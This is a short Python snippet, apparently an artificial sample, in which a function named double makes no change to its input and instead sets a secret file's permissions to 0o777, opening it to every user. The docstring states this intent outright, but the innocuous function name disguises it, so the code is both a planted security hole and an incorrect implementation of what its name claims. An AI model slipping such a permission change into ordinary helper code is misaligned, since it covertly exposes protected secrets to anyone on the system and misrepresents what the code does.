"""Opens the secret's permissions for everybody."""
import os
def double(x):
    os.chmod(SECRET_FILE, 0o777)
    return x
